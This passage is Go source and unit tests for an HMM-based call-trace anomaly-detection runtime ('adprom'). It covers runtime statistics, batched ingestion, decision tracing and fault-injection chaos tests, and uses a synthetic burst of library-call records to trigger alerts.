type Stats struct {
	// Calls scored, and calls shed by DropNewest (or discarded after a
	// session died or was quarantined).
	Calls, Dropped uint64
	// Alerts raised, by detect.Flag value.
	Alerts [metrics.NumFlags]uint64
	// ChannelAlerts counts alert provenance by detection channel, indexed by
	// detect.ChannelNames (hmm, sql, fusion); one alert can count against
	// several channels. All zero on single-channel runtimes.
	ChannelAlerts [metrics.NumChannels]uint64
	// QueueDepth is the number of calls currently waiting across all worker
	// queues; Workers and QueueCap describe capacity.
	QueueDepth int
	Workers    int
	QueueCap   int
	// ActiveSessions / SessionsOpened count session churn.
	ActiveSessions int64
	SessionsOpened uint64
	// AvgLatency is the mean engine-side processing time per call;
	// MaxLatency the largest single call, and P50/P95/P99Latency the
	// percentiles estimated from the observe-path latency histogram.
	AvgLatency time.Duration
	MaxLatency time.Duration
	P50Latency time.Duration
	P95Latency time.Duration
	P99Latency time.Duration
	// Panics counts panics recovered on workers (per-op or worker-crash);
	// WorkerRestarts counts supervised worker restarts; Quarantined counts
	// sessions isolated after a failure.
	Panics         uint64
	WorkerRestarts uint64
	Quarantined    uint64
	// SinkDropped counts alert deliveries shed by the async dispatcher
	// (buffer overflow or handoff timeout); SinkPanics counts panics
	// recovered from the user's alert sink.
	SinkDropped uint64
	SinkPanics  uint64
	// Generation is the current profile generation (1 until the first swap);
	// Swaps counts SwapProfile publications; EnginesRetired counts engines
	// discarded for being a generation behind instead of recycled.
	Generation     uint64
	Swaps          uint64
	EnginesRetired uint64
	// DecisionsRecorded counts provenance records written into the decision
	// ring (alerts plus 1-in-N sampled Normal judgements).
	DecisionsRecorded uint64
	// TracesStored counts decision traces committed into the trace store
	// (alert traces plus 1-in-N sampled healthy traces); TracesSampledOut
	// counts healthy traces the sampling gate passed over. Both zero when
	// tracing is disabled.
	TracesStored     uint64
	TracesSampledOut uint64
	// Shed counts calls rejected by risk-aware admission (ShedByRisk only;
	// disjoint from Dropped), and ShedRate is the fraction of offered calls
	// shed so far: Shed / (Shed + Calls).
	Shed     uint64
	ShedRate float64
	// EstimatedMissProb estimates the fraction of expected alert evidence
	// the shedding gave up: shed risk mass over total offered risk mass.
	EstimatedMissProb float64
	// ShedEngaged reports whether any worker's admission controller is
	// currently shedding (queue occupancy inside the hysteresis band or
	// above).
	ShedEngaged bool
	// QueueHighWater is the lifetime maximum pending-call depth observed on
	// any single worker queue — the saturation early warning.
	QueueHighWater int
}

// AlertTotal sums the per-flag alert counts.
func (s Stats) AlertTotal() uint64 {
	var t uint64
	for _, v := range s.Alerts {
		t += v
	}
	return t
}

func (s Stats) String() string {
	return fmt.Sprintf(
		"calls=%d dropped=%d alerts=%d (anomalous=%d dl=%d ooc=%d) channels[hmm=%d sql=%d fused=%d] sessions=%d/%d queue=%d/%d×%d qhw=%d avg=%s max=%s p50=%s p95=%s p99=%s panics=%d restarts=%d quarantined=%d sink[dropped=%d panics=%d] gen=%d swaps=%d retired=%d decisions=%d traces[stored=%d sampled_out=%d] shed[calls=%d rate=%.4f missp=%.4f engaged=%v]",
		s.Calls, s.Dropped, s.AlertTotal(),
		s.Alerts[int(detect.FlagAnomalous)], s.Alerts[int(detect.FlagDL)], s.Alerts[int(detect.FlagOutOfContext)],
		s.ChannelAlerts[0], s.ChannelAlerts[1], s.ChannelAlerts[2],
		s.ActiveSessions, s.SessionsOpened, s.QueueDepth, s.Workers, s.QueueCap, s.QueueHighWater,
		s.AvgLatency, s.MaxLatency, s.P50Latency, s.P95Latency, s.P99Latency,
		s.Panics, s.WorkerRestarts, s.Quarantined, s.SinkDropped, s.SinkPanics,
		s.Generation, s.Swaps, s.EnginesRetired, s.DecisionsRecorded,
		s.TracesStored, s.TracesSampledOut,
		s.Shed, s.ShedRate, s.EstimatedMissProb, s.ShedEngaged)
}

// Stats snapshots the runtime's counters and gauges.
func (rt *Runtime) Stats() Stats {
	snap := rt.ctr.Snapshot()
	st := Stats{
		Calls:          snap.Calls,
		Dropped:        snap.Dropped,
		Alerts:         snap.Alerts,
		ChannelAlerts:  snap.ChannelAlerts,
		Workers:        rt.cfg.workers,
		QueueCap:       rt.cfg.queueDepth,
		ActiveSessions: snap.ActiveSessions,
		SessionsOpened: snap.SessionsOpened,
		AvgLatency:     time.Duration(snap.AvgLatencyNanos()),
		MaxLatency:     time.Duration(snap.MaxLatencyNanos()),
		P50Latency:     time.Duration(snap.Observe.Quantile(0.50)),
		P95Latency:     time.Duration(snap.Observe.Quantile(0.95)),
		P99Latency:     time.Duration(snap.Observe.Quantile(0.99)),
		Panics:         snap.Panics,
		WorkerRestarts: snap.WorkerRestarts,
		Quarantined:    snap.Quarantined,
		SinkDropped:    snap.SinkDropped,
		SinkPanics:     snap.SinkPanics,
		Generation:     rt.cur.Load().gen,
		Swaps:          snap.Swaps,
		EnginesRetired: snap.EnginesRetired,
	}
	st.DecisionsRecorded = rt.rec.Recorded()
	st.TracesStored = rt.traces.Stored()
	st.TracesSampledOut = rt.traces.SampledOut()
	st.Shed = snap.Shed
	st.QueueHighWater = int(snap.QueueHighWater)
	if st.Shed > 0 {
		st.ShedRate = float64(st.Shed) / float64(st.Shed+st.Calls)
	}
	if rt.shed != nil {
		ss := rt.shed.Snapshot()
		st.EstimatedMissProb = ss.MissProbability
		st.ShedEngaged = ss.Engaged
	}
	// QueueDepth is the pending-call ledger, not channel occupancy: it counts
	// calls (batches weighted by size) offered and not yet dequeued.
	for i := range rt.pending {
		if d := rt.pending[i].Load(); d > 0 {
			st.QueueDepth += int(d)
		}
	}
	return st
}

// WorkerQueueDepths returns each worker's current pending-call depth — the
// per-worker saturation gauges behind the adprom_worker_queue_depth metric.
func (rt *Runtime) WorkerQueueDepths() []int {
	out := make([]int, len(rt.pending))
	for i := range rt.pending {
		if d := rt.pending[i].Load(); d > 0 {
			out[i] = int(d)
		}
	}
	return out
}

// ShedSnapshot exposes the risk-aware admission controller's counters (the
// zero Snapshot when the runtime does not run ShedByRisk).
func (rt *Runtime) ShedSnapshot() shed.Snapshot {
	if rt.shed == nil {
		return shed.Snapshot{}
	}
	return rt.shed.Snapshot()
}

// Histograms bundles the runtime's latency histograms: per-call engine
// scoring (Observe), flush/close processing (Flush), and async alert
// deliveries to the user sink (SinkDelivery). All values are nanoseconds.
type Histograms struct {
	Observe      metrics.HistogramSnapshot
	Flush        metrics.HistogramSnapshot
	SinkDelivery metrics.HistogramSnapshot
}

// Histograms snapshots the runtime's latency histograms.
func (rt *Runtime) Histograms() Histograms {
	snap := rt.ctr.Snapshot()
	return Histograms{Observe: snap.Observe, Flush: snap.Flush, SinkDelivery: snap.SinkDelivery}
}

// CountersSnapshot exposes the raw counters snapshot — the tenant router's
// per-shard Prometheus exposition renders it under tenant labels, holding
// the same every-field reflection guard the single-runtime /metrics does.
func (rt *Runtime) CountersSnapshot() metrics.CountersSnapshot { return rt.ctr.Snapshot() }

// Decisions returns up to limit of the most recent provenance records,
// newest first (limit ≤ 0 returns everything retained). Empty when the
// decision log was disabled with WithDecisionLog(-1, 0).
func (rt *Runtime) Decisions(limit int) []obsv.Decision { return rt.rec.Decisions(limit) }

// TracingEnabled reports whether the runtime was built with WithTracing.
func (rt *Runtime) TracingEnabled() bool { return rt.traces.Enabled() }

// BeginTrace opens a decision trace for an externally originated op — the
// network ingest and tenant routing layers call this before routing so the
// trace's root span covers decode and routing, not just engine scoring. tc
// may carry a client-supplied trace ID and transport attribution. Returns
// nil when tracing is disabled; a non-nil Active must be handed to
// Session.ObserveBatchTraced (which takes ownership) or Finished by the
// caller.
func (rt *Runtime) BeginTrace(tc trace.Context, session, stage string) *trace.Active {
	return rt.traces.Begin(tc, session, stage)
}

// Traces returns up to limit of the most recently retained decision traces,
// newest first (limit ≤ 0 returns everything retained). Nil when tracing is
// disabled.
func (rt *Runtime) Traces(limit int) []trace.Trace { return rt.traces.Traces(limit) }

// TraceByID returns the retained decision trace with the given ID.
func (rt *Runtime) TraceByID(id string) (trace.Trace, bool) { return rt.traces.TraceByID(id) }

// Ready reports nil while the runtime serves ingest: workers supervised, a
// profile generation published, and Close not yet begun. The introspection
// endpoint's /readyz is wired to this.
func (rt *Runtime) Ready() error {
	rt.mu.RLock()
	defer rt.mu.RUnlock()
	switch {
	case rt.closed:
		return ErrClosed
	case rt.draining:
		return errors.New("runtime: draining")
	case rt.cur.Load().gen == 0:
		return errors.New("runtime: no profile generation published")
	}
	return nil
}
