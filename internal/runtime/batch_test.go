package runtime

import (
	"context"
	"errors"
	"fmt"
	"math/rand"
	"reflect"
	"sync"
	"testing"

	"adprom/internal/detect"
	"adprom/internal/hmm"
)

// TestSessionObserveBatchMatchesObserve drives the same mixed corpus of
// streams through two runtimes — one per-call, one via ObserveBatch in
// random chunks — concurrently (run under -race) and requires bit-identical
// alert histories, identical call counts, and zero drops, in both scorer
// modes.
func TestSessionObserveBatchMatchesObserve(t *testing.T) {
	p, traces := trainAppH(t)
	const sessions = 16
	streams := streamSet(traces, sessions)

	for _, mode := range []hmm.ScorerMode{hmm.ScorerExact, hmm.ScorerTopK(4)} {
		run := func(batched bool) ([][]detect.Alert, Stats, uint64) {
			rt := New(p, WithWorkers(4), WithQueueDepth(64), WithScorerMode(mode))
			got := make([][]detect.Alert, sessions)
			var wg sync.WaitGroup
			for i := 0; i < sessions; i++ {
				wg.Add(1)
				go func(i int) {
					defer wg.Done()
					s := rt.Session(fmt.Sprintf("session-%03d", i))
					if batched {
						r := rand.New(rand.NewSource(int64(i)))
						for lo := 0; lo < len(streams[i]); {
							hi := lo + 1 + r.Intn(40)
							if hi > len(streams[i]) {
								hi = len(streams[i])
							}
							if err := s.ObserveBatch(streams[i][lo:hi]); err != nil {
								t.Error(err)
								return
							}
							lo = hi
						}
					} else {
						for _, c := range streams[i] {
							if err := s.Observe(c); err != nil {
								t.Error(err)
								return
							}
						}
					}
					var err error
					if got[i], err = s.Close(); err != nil {
						t.Error(err)
					}
				}(i)
			}
			wg.Wait()
			st := rt.Stats()
			oc := rt.Histograms().Observe.Count
			if err := rt.Close(); err != nil {
				t.Fatal(err)
			}
			return got, st, oc
		}

		want, wantStats, _ := run(false)
		got, gotStats, gotObserved := run(true)
		var alerts int
		for i := range want {
			if !reflect.DeepEqual(got[i], want[i]) {
				t.Fatalf("mode %v session %d: batched history diverged\nbatch    %+v\nper-call %+v",
					mode, i, got[i], want[i])
			}
			alerts += len(want[i])
		}
		if alerts == 0 {
			t.Fatalf("mode %v: baseline raised no alerts; equivalence is vacuous", mode)
		}
		if gotStats.Calls != wantStats.Calls || gotStats.Dropped != 0 {
			t.Fatalf("mode %v: batched stats calls=%d dropped=%d, per-call calls=%d",
				mode, gotStats.Calls, gotStats.Dropped, wantStats.Calls)
		}
		if gotObserved != gotStats.Calls {
			t.Fatalf("mode %v: Observe.Count=%d != Calls=%d (ObserveN attribution broken)",
				mode, gotObserved, gotStats.Calls)
		}
	}
}

// TestSessionObserveBatchEdgeCases: empty batches are accepted no-ops and
// batches after Close report ErrClosed without counting calls.
func TestSessionObserveBatchEdgeCases(t *testing.T) {
	p, traces := trainAppH(t)
	rt := New(p, WithWorkers(1))
	defer rt.Close()

	s := rt.Session("edge")
	if err := s.ObserveBatch(nil); err != nil {
		t.Fatalf("empty batch: %v", err)
	}
	if err := s.ObserveBatchContext(context.Background(), traces[0][:1]); err != nil {
		t.Fatalf("one-call batch: %v", err)
	}
	if _, err := s.Close(); err != nil {
		t.Fatal(err)
	}
	if err := s.ObserveBatch(traces[0]); !errors.Is(err, ErrClosed) {
		t.Fatalf("batch after close = %v, want ErrClosed", err)
	}
	if st := rt.Stats(); st.Calls != 1 {
		t.Fatalf("Calls = %d, want 1", st.Calls)
	}
}
