package runtime

import (
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"adprom/internal/collector"
	"adprom/internal/detect"
	"adprom/internal/trace"
)

// attackStream returns a base training trace with a foreign burst appended,
// guaranteed to cross the HMM threshold.
func attackStream(traces []collector.Trace) collector.Trace {
	mutated := append(collector.Trace{}, traces[0]...)
	for k := 0; k < 8; k++ {
		mutated = append(mutated, collector.Call{
			Label: "curl_easy_perform", Name: "curl_easy_perform", Caller: "main",
		})
	}
	return mutated
}

// waitTrace polls for a committed trace by ID: an alert trace only commits
// after the async sink delivery releases its reference.
func waitTrace(t *testing.T, rt *Runtime, id string) trace.Trace {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		if tr, ok := rt.TraceByID(id); ok {
			return tr
		}
		time.Sleep(2 * time.Millisecond)
	}
	t.Fatalf("trace %s never committed", id)
	return trace.Trace{}
}

// TestTracingEndToEnd drives an attacked stream through a traced runtime and
// checks the alert trace's complete stage timeline: root span, shed
// admission, engine scoring with the flagged window's judgement span, and
// the async sink delivery span — plus trace-ID correlation on the decision
// log and the latency-histogram exemplar.
func TestTracingEndToEnd(t *testing.T) {
	p, traces := trainAppH(t)
	delivered := make(chan detect.Alert, 64)
	rt := New(p,
		WithWorkers(2),
		WithTracing(64, 1),
		WithAlertFunc(func(session string, a detect.Alert) { delivered <- a }),
	)
	defer rt.Close()

	// The whole attacked stream as one batch: one trace covers the op that
	// raises the alerts.
	ta := rt.BeginTrace(trace.Context{ID: "attack-op", Remote: "10.0.0.9:1234", Codec: "test"}, "victim", "ingest")
	if ta == nil {
		t.Fatal("BeginTrace returned nil with tracing enabled")
	}
	s := rt.Session("victim")
	if err := s.ObserveBatchTraced(context.Background(), ta, attackStream(traces)); err != nil {
		t.Fatal(err)
	}
	select {
	case <-delivered:
	case <-time.After(5 * time.Second):
		t.Fatal("alert never delivered to sink")
	}

	tr := waitTrace(t, rt, "attack-op")
	if !tr.Alert {
		t.Error("alert-raising op's trace not marked Alert")
	}
	if tr.Session != "victim" {
		t.Errorf("trace session = %q", tr.Session)
	}
	if tr.Spans[0].Stage != "ingest" || tr.Spans[0].ID != trace.RootSpan {
		t.Fatalf("root span = %+v", tr.Spans[0])
	}
	if a, ok := tr.Spans[0].Attr("remote"); !ok || a.Str != "10.0.0.9:1234" {
		t.Errorf("root span lost the remote attr: %+v", tr.Spans[0].Attrs)
	}

	admit := tr.Span("admit")
	if admit == nil {
		t.Fatal("no admit span")
	}
	if v, ok := admit.Attr("verdict"); !ok || v.Str != "admitted" {
		t.Errorf("admit verdict = %+v", admit.Attrs)
	}
	if _, ok := admit.Attr("queue_depth"); !ok {
		t.Error("admit span missing queue_depth")
	}

	score := tr.Span("score")
	if score == nil {
		t.Fatal("no score span")
	}
	if score.Parent != trace.RootSpan {
		t.Errorf("score span parent = %d", score.Parent)
	}
	if v, ok := score.Attr("alerts"); !ok || v.Int == 0 {
		t.Errorf("score span alerts attr = %+v", score.Attrs)
	}
	if v, ok := score.Attr("scorer"); !ok || v.Str != "exact" {
		t.Errorf("score span scorer attr = %+v", score.Attrs)
	}
	if v, ok := score.Attr("generation"); !ok || v.Int != 1 {
		t.Errorf("score span generation attr = %+v", score.Attrs)
	}

	hmmSpan := tr.Span("score.hmm")
	if hmmSpan == nil {
		t.Fatal("no score.hmm judgement span for the flagged window")
	}
	if hmmSpan.Parent != score.ID {
		t.Errorf("score.hmm parent = %d, want %d", hmmSpan.Parent, score.ID)
	}
	sc, okS := hmmSpan.Attr("score")
	th, okT := hmmSpan.Attr("threshold")
	if !okS || !okT || sc.Float >= th.Float {
		t.Errorf("flagged judgement span score/threshold: %+v", hmmSpan.Attrs)
	}

	sink := tr.Span("sink")
	if sink == nil {
		t.Fatal("no sink span — delivery reference did not keep the trace open")
	}
	if v, ok := sink.Attr("verdict"); !ok || v.Str != "delivered" {
		t.Errorf("sink verdict = %+v", sink.Attrs)
	}

	// Correlation: every flagged decision of the op carries the trace ID, and
	// the observe-latency histogram's exemplar points at the alert trace.
	found := false
	for _, d := range rt.Decisions(0) {
		if d.Flagged && d.Session == "victim" {
			if d.Trace != "attack-op" {
				t.Errorf("flagged decision trace = %q, want attack-op", d.Trace)
			}
			found = true
		}
	}
	if !found {
		t.Error("no flagged decision recorded for the traced op")
	}
	if ex := rt.Histograms().Observe.Exemplar; ex != "attack-op" {
		t.Errorf("observe histogram exemplar = %q, want attack-op", ex)
	}
}

// TestTracingHealthySampling pins the healthy-trace retention gate: 1-in-N
// sampling with exact counters on a single sequential session.
func TestTracingHealthySampling(t *testing.T) {
	p, traces := trainAppH(t)
	rt := New(p, WithWorkers(1), WithTracing(128, 4))
	s := rt.Session("healthy")
	const ops = 16
	for i := 0; i < ops; i++ {
		if err := s.ObserveBatch(traces[0]); err != nil {
			t.Fatal(err)
		}
		// Reset the window between replays so the junction of two healthy
		// traces never forms an anomalous (alert-marking) window.
		if _, err := s.Flush(); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := s.Close(); err != nil {
		t.Fatal(err)
	}
	if err := rt.Close(); err != nil {
		t.Fatal(err)
	}
	// Every op is traced — observes, the flushes judging each partial
	// window, and the final close — and all were healthy, so the 1-in-4
	// gate applies to all of them in sequence.
	const total = ops + ops + 1
	st := rt.Stats()
	if st.TracesStored != total/4 {
		t.Errorf("TracesStored = %d, want %d", st.TracesStored, total/4)
	}
	if st.TracesSampledOut != total-total/4 {
		t.Errorf("TracesSampledOut = %d, want %d", st.TracesSampledOut, total-total/4)
	}
	if got := len(rt.Traces(0)); got != total/4 {
		t.Errorf("retained %d traces, want %d", got, total/4)
	}
}

// TestTracingDisabledBitIdentical checks the kill switch: without WithTracing
// the runtime builds no traces and the decision log's JSON encoding contains
// no trace key at all — bit-identical to a trace-free build.
func TestTracingDisabledBitIdentical(t *testing.T) {
	p, traces := trainAppH(t)
	rt := New(p, WithWorkers(2), WithDecisionLog(64, 1))
	defer rt.Close()
	if rt.TracingEnabled() {
		t.Fatal("tracing enabled without WithTracing")
	}
	if ta := rt.BeginTrace(trace.Context{ID: "x"}, "s", "ingest"); ta != nil {
		t.Fatal("BeginTrace must return nil with tracing disabled")
	}
	s := rt.Session("plain")
	if err := s.ObserveBatch(attackStream(traces)); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Flush(); err != nil {
		t.Fatal(err)
	}
	if got := rt.Traces(0); got != nil {
		t.Errorf("disabled tracing retained %d traces", len(got))
	}
	st := rt.Stats()
	if st.TracesStored != 0 || st.TracesSampledOut != 0 {
		t.Errorf("trace counters nonzero with tracing off: %d/%d", st.TracesStored, st.TracesSampledOut)
	}
	ds := rt.Decisions(0)
	if len(ds) == 0 {
		t.Fatal("no decisions recorded")
	}
	data, err := json.Marshal(ds)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(data), `"trace"`) {
		t.Error("decision log JSON carries a trace key with tracing disabled")
	}
	if ex := rt.Histograms().Observe.Exemplar; ex != "" {
		t.Errorf("histogram exemplar %q with tracing disabled", ex)
	}
}

// TestTracingDroppedOpFinishesTrace checks that an op rejected at admission
// still produces a complete, committed trace whose admit span carries the
// rejection verdict — the producer, not the worker, owns the trace when the
// op never reaches a queue.
func TestTracingDroppedOpFinishesTrace(t *testing.T) {
	p, traces := trainAppH(t)
	block := make(chan struct{})
	rt := New(p,
		WithWorkers(1),
		WithQueueDepth(1),
		WithTracing(64, 1),
		WithDropPolicy(DropNewest),
		WithWorkerHook(func(int, string) { <-block }),
	)
	defer rt.Close()
	defer close(block)

	s := rt.Session("noisy")
	// The worker blocks inside the hook after dequeuing the first op, so the
	// 1-call budget saturates within a few observes and one must drop.
	var err error
	for i := 0; i < 1000 && err == nil; i++ {
		err = s.Observe(traces[0][i%len(traces[0])])
	}
	if err == nil {
		t.Fatal("queue never saturated")
	}

	var admit *trace.Span
	for _, tr := range rt.Traces(0) {
		if a := tr.Span("admit"); a != nil {
			if v, ok := a.Attr("verdict"); ok && v.Str == "dropped" {
				admit = a
				break
			}
		}
	}
	if admit == nil {
		t.Fatal("no committed trace carries a dropped admit verdict")
	}
	if v, ok := admit.Attr("policy"); !ok || v.Str != "drop-newest" {
		t.Errorf("admit policy attr = %+v", admit.Attrs)
	}
}
