package runtime

// Chaos suite: fault-injection tests (run them under -race; `make race`
// does) proving the runtime's failure model — sink isolation, per-session
// quarantine, supervised worker restart, and deadline-bounded shutdown —
// while healthy sessions stay bit-identical to the sequential Monitor
// baseline and no goroutines leak.

import (
	"context"
	"errors"
	"fmt"
	stdruntime "runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"adprom/internal/core"
	"adprom/internal/detect"
	"adprom/internal/faultinject"
)

// checkGoroutines waits for the goroutine count to return to the baseline,
// dumping stacks if workers or dispatcher goroutines leaked.
func checkGoroutines(t *testing.T, before int) {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for {
		if now := stdruntime.NumGoroutine(); now <= before {
			return
		}
		if time.Now().After(deadline) {
			buf := make([]byte, 1<<20)
			n := stdruntime.Stack(buf, true)
			t.Fatalf("goroutine leak: %d before, %d after\n%s",
				before, stdruntime.NumGoroutine(), buf[:n])
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// TestChaosSinkFaultsDoNotPerturbDetection injects the acceptance-criteria
// sink faults — a panic every 3rd delivery plus a 100ms stall per delivery —
// through a deliberately tiny dispatcher buffer and handoff timeout, and
// checks every session's alert history is still bit-identical to the
// sequential Monitor baseline: a slow or crashing sink may shed its own
// deliveries, but it can never stall or corrupt detection.
func TestChaosSinkFaultsDoNotPerturbDetection(t *testing.T) {
	p, traces := trainAppH(t)
	const sessions = 16
	streams := streamSet(traces, sessions)

	want := make([][]detect.Alert, sessions)
	var wantAlerts uint64
	for i, tr := range streams {
		want[i] = core.NewMonitor(p, nil).ObserveTrace(tr)
		wantAlerts += uint64(len(want[i]))
	}
	if wantAlerts < 3 {
		t.Fatalf("baseline raised only %d alerts; chaos assertions need >= 3", wantAlerts)
	}

	before := stdruntime.NumGoroutine()
	sink := faultinject.NewSink(nil,
		faultinject.PanicEvery(3),
		faultinject.Latency(100*time.Millisecond))
	rt := New(p,
		WithWorkers(4), WithQueueDepth(64),
		WithAlertFunc(sink.Deliver),
		WithSinkBuffer(4), WithSinkTimeout(5*time.Millisecond))

	got := make([][]detect.Alert, sessions)
	errs := make([]error, sessions)
	var wg sync.WaitGroup
	for i := 0; i < sessions; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			s := rt.Session(fmt.Sprintf("chaos-sink-%03d", i))
			for _, c := range streams[i] {
				if err := s.Observe(c); err != nil {
					errs[i] = err
					return
				}
			}
			got[i], errs[i] = s.Close()
		}(i)
	}
	wg.Wait()

	for i := 0; i < sessions; i++ {
		if errs[i] != nil {
			t.Fatalf("session %d: %v", i, errs[i])
		}
		if err := alertsEquivalent(got[i], want[i]); err != nil {
			t.Errorf("session %d diverged under sink chaos: %v", i, err)
		}
	}
	if err := rt.Close(); err != nil {
		t.Fatal(err)
	}
	st := rt.Stats()
	if st.AlertTotal() != wantAlerts {
		t.Errorf("alert counters diverged: %d, want %d", st.AlertTotal(), wantAlerts)
	}
	if st.SinkPanics+st.SinkDropped == 0 {
		t.Errorf("no sink faults surfaced in stats: %v", st)
	}
	if st.SinkPanics != sink.Panics() {
		t.Errorf("SinkPanics = %d, sink recorded %d", st.SinkPanics, sink.Panics())
	}
	if st.Panics != 0 || st.Quarantined != 0 || st.WorkerRestarts != 0 {
		t.Errorf("sink faults must not touch workers/sessions: %v", st)
	}
	checkGoroutines(t, before)
}

// TestChaosEnginePanicQuarantinesOnlyVictims panics the detection engine
// (via the judge hook) on the first window judgement of every "victim"
// session: victims are quarantined with ErrSessionFailed while every healthy
// session's history stays bit-identical to the sequential baseline, and the
// workers that recovered the panics keep serving without restarting.
func TestChaosEnginePanicQuarantinesOnlyVictims(t *testing.T) {
	p, traces := trainAppH(t)
	const sessions = 16
	streams := streamSet(traces, sessions)

	want := make([][]detect.Alert, sessions)
	for i, tr := range streams {
		want[i] = core.NewMonitor(p, nil).ObserveTrace(tr)
	}

	victim := func(id string) bool { return strings.HasSuffix(id, "-victim") }
	name := func(i int) string {
		if i%4 == 0 {
			return fmt.Sprintf("chaos-eng-%03d-victim", i)
		}
		return fmt.Sprintf("chaos-eng-%03d", i)
	}

	before := stdruntime.NumGoroutine()
	fault := faultinject.NewEngineFault(faultinject.FaultPanic, 1, victim)
	rt := New(p, WithWorkers(2), WithQueueDepth(64), WithJudgeHook(fault.Hook))

	type result struct {
		alerts []detect.Alert
		err    error
	}
	results := make([]result, sessions)
	var wg sync.WaitGroup
	for i := 0; i < sessions; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			s := rt.Session(name(i))
			for _, c := range streams[i] {
				if err := s.Observe(c); err != nil {
					results[i].err = err
					break
				}
			}
			a, err := s.Close()
			results[i].alerts = a
			if results[i].err == nil {
				results[i].err = err
			} else if !errors.Is(err, ErrSessionFailed) {
				t.Errorf("session %d: close after failed observe: %v", i, err)
			}
		}(i)
	}
	wg.Wait()

	victims := 0
	for i := 0; i < sessions; i++ {
		if victim(name(i)) {
			victims++
			if !errors.Is(results[i].err, ErrSessionFailed) {
				t.Errorf("victim %d: err = %v, want ErrSessionFailed", i, results[i].err)
			}
			if !fault.Fired(name(i)) {
				t.Errorf("victim %d: fault never fired", i)
			}
			continue
		}
		if results[i].err != nil {
			t.Fatalf("healthy session %d: %v", i, results[i].err)
		}
		if err := alertsEquivalent(results[i].alerts, want[i]); err != nil {
			t.Errorf("healthy session %d diverged under engine chaos: %v", i, err)
		}
	}
	if err := rt.Close(); err != nil {
		t.Fatal(err)
	}
	st := rt.Stats()
	if st.Quarantined != uint64(victims) {
		t.Errorf("Quarantined = %d, want %d", st.Quarantined, victims)
	}
	if st.Panics < uint64(victims) {
		t.Errorf("Panics = %d, want >= %d", st.Panics, victims)
	}
	if st.WorkerRestarts != 0 {
		t.Errorf("per-op recovery must not restart workers: %v", st)
	}
	if st.ActiveSessions != 0 {
		t.Errorf("ActiveSessions = %d after closing everything", st.ActiveSessions)
	}
	checkGoroutines(t, before)
}

// TestJudgeHookErrorQuarantines covers the error-propagating (non-panic)
// judge-hook path: a hook error poisons the engine, the runtime quarantines
// the session, and Session.Err exposes the cause.
func TestJudgeHookErrorQuarantines(t *testing.T) {
	p, traces := trainAppH(t)
	fault := faultinject.NewEngineFault(faultinject.FaultError, 1, nil)
	rt := New(p, WithWorkers(1), WithJudgeHook(fault.Hook))
	defer rt.Close()

	s := rt.Session("errhook")
	_, err := s.ObserveTrace(traces[0])
	if !errors.Is(err, ErrSessionFailed) {
		t.Fatalf("ObserveTrace = %v, want ErrSessionFailed", err)
	}
	if serr := s.Err(); !errors.Is(serr, ErrSessionFailed) ||
		!strings.Contains(serr.Error(), "faultinject: engine failure") {
		t.Fatalf("Session.Err() = %v, want wrapped injector cause", serr)
	}
	if err := s.Observe(traces[0][0]); !errors.Is(err, ErrSessionFailed) {
		t.Fatalf("observe after quarantine: %v", err)
	}
	st := rt.Stats()
	if st.Quarantined != 1 || st.Panics != 0 {
		t.Fatalf("error path: quarantined=%d panics=%d, want 1/0", st.Quarantined, st.Panics)
	}
	// Quarantine does not leak the session slot.
	if _, err := s.Close(); !errors.Is(err, ErrSessionFailed) {
		t.Fatalf("close of quarantined session: %v", err)
	}
	if st := rt.Stats(); st.ActiveSessions != 0 {
		t.Fatalf("ActiveSessions = %d after closing quarantined session", st.ActiveSessions)
	}
}

// TestChaosWorkerCrashRestartsAndPreservesHealthySessions kills the single
// worker goroutine itself (a panic outside the per-op recovery) on the
// victim session's 3rd op: supervision restarts the worker with backoff, the
// victim is quarantined, and a healthy session sharing that worker and queue
// still produces a bit-identical history.
func TestChaosWorkerCrashRestartsAndPreservesHealthySessions(t *testing.T) {
	p, traces := trainAppH(t)
	streams := streamSet(traces, 3)
	healthyStream := streams[2] // the mutated, alert-raising stream
	want := core.NewMonitor(p, nil).ObserveTrace(healthyStream)

	before := stdruntime.NumGoroutine()
	fault := faultinject.NewWorkerFault("wf-victim", 3)
	rt := New(p, WithWorkers(1), WithQueueDepth(256), WithWorkerHook(fault.Hook))

	victim := rt.Session("wf-victim")
	var victimErr error
	for i := 0; i < 8; i++ {
		if err := victim.Observe(traces[0][i%len(traces[0])]); err != nil {
			victimErr = err
			break
		}
	}

	healthy := rt.Session("wf-healthy")
	gotHealthy, err := healthy.ObserveTrace(healthyStream)
	if err != nil {
		t.Fatalf("healthy session: %v", err)
	}
	if err := alertsEquivalent(gotHealthy, want); err != nil {
		t.Errorf("healthy session diverged across a worker crash: %v", err)
	}

	// The victim ends quarantined: either an ingest call already failed or
	// the close op reports it.
	_, closeErr := victim.Close()
	if victimErr == nil && !errors.Is(closeErr, ErrSessionFailed) {
		t.Fatalf("victim close: %v (observe err %v)", closeErr, victimErr)
	}
	if !fault.Fired() {
		t.Fatal("worker fault never fired")
	}
	if err := rt.Close(); err != nil {
		t.Fatal(err)
	}
	st := rt.Stats()
	if st.WorkerRestarts == 0 {
		t.Errorf("no supervised restart recorded: %v", st)
	}
	if st.Panics == 0 || st.Quarantined != 1 {
		t.Errorf("panics=%d quarantined=%d, want >0/1", st.Panics, st.Quarantined)
	}
	checkGoroutines(t, before)
}

// TestCloseContextReturnsWithinDeadline wedges the only worker and asserts
// CloseContext gives up at its deadline instead of hanging on the drain,
// while still fencing off further ingest.
func TestCloseContextReturnsWithinDeadline(t *testing.T) {
	p, traces := trainAppH(t)
	gate := make(chan struct{})
	before := stdruntime.NumGoroutine()
	rt := New(p, WithWorkers(1), WithWorkerHook(faultinject.WorkerGate(gate)))
	s := rt.Session("stuck")
	for i := 0; i < 4; i++ {
		if err := s.Observe(traces[0][i]); err != nil {
			t.Fatal(err)
		}
	}

	ctx, cancel := context.WithTimeout(context.Background(), 200*time.Millisecond)
	defer cancel()
	start := time.Now()
	err := rt.CloseContext(ctx)
	elapsed := time.Since(start)
	if !errors.Is(err, context.DeadlineExceeded) {
